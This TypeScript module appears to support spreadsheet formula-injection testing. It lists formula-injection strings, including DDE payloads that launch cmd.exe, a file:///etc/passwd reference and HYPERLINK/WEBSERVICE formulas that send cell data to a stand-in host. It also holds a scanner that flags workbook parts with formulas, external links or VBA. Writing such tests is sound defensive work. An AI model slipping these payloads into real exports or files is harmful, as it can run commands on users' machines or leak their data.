import { inflateRawSync } from 'node:zlib'

/** Texts that a spreadsheet may take for a formula, a command or a link: what a name, a reason or a number of a person may say. */
export const formulas: readonly string[] = [
  '=1+1',
  '+968 24',
  '-1',
  '@SUM(A1)',
  '=HYPERLINK("http://x.example")',
  '=HYPERLINK("http://x.example?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  '=IMPORTXML("http://x.example","//a")',
  '=IMPORTDATA("http://x.example")',
  '=WEBSERVICE("http://x.example")',
  '=IMAGE("http://x.example/a.png")',
  "='file:///etc/passwd'#$passwd.A1",
  '=INDIRECT("A1")',
  '=SUM(54+51)',
  '=A1',
  '{=SUM(A1:A9)}',
  '=+1',
  '=-1',
  '=@A1',
  '==1',
  '+1+1',
  '-1+1|x',
  '@A1',
  '＝1+1',
  '" =1+1',
  "'=1+1",
  ';=1+1',
  ',=1+1',
  '%0A=1+1',
  '<f>1+1</f>',
  ']]><f>1</f>',
]

/** The parts of a workbook that hold a formula, a link or a reference to another file. */
export function activeParts(workbook: Uint8Array): string[] {
  const zip = Buffer.from(workbook)
  const found: string[] = []
  for (let at = zip.indexOf('PK\x01\x02'); at >= 0; at = zip.indexOf('PK\x01\x02', at + 4)) {
    const name = zip.toString('utf8', at + 46, at + 46 + zip.readUInt16LE(at + 28))
    const packed = zip.readUInt32LE(at + 20)
    const offset = zip.readUInt32LE(at + 42)
    const start = offset + 30 + zip.readUInt16LE(offset + 26) + zip.readUInt16LE(offset + 28)
    const content = zip.subarray(start, start + packed)
    const text = (zip.readUInt16LE(at + 10) === 8 ? inflateRawSync(content) : content).toString('utf8')
    if (/<f[\s>/]|<hyperlink|<ddeLink|<oleLink|TargetMode="External"/.test(text) || /externalLink|vbaProject/.test(name)) found.push(name)
  }
  return found
}
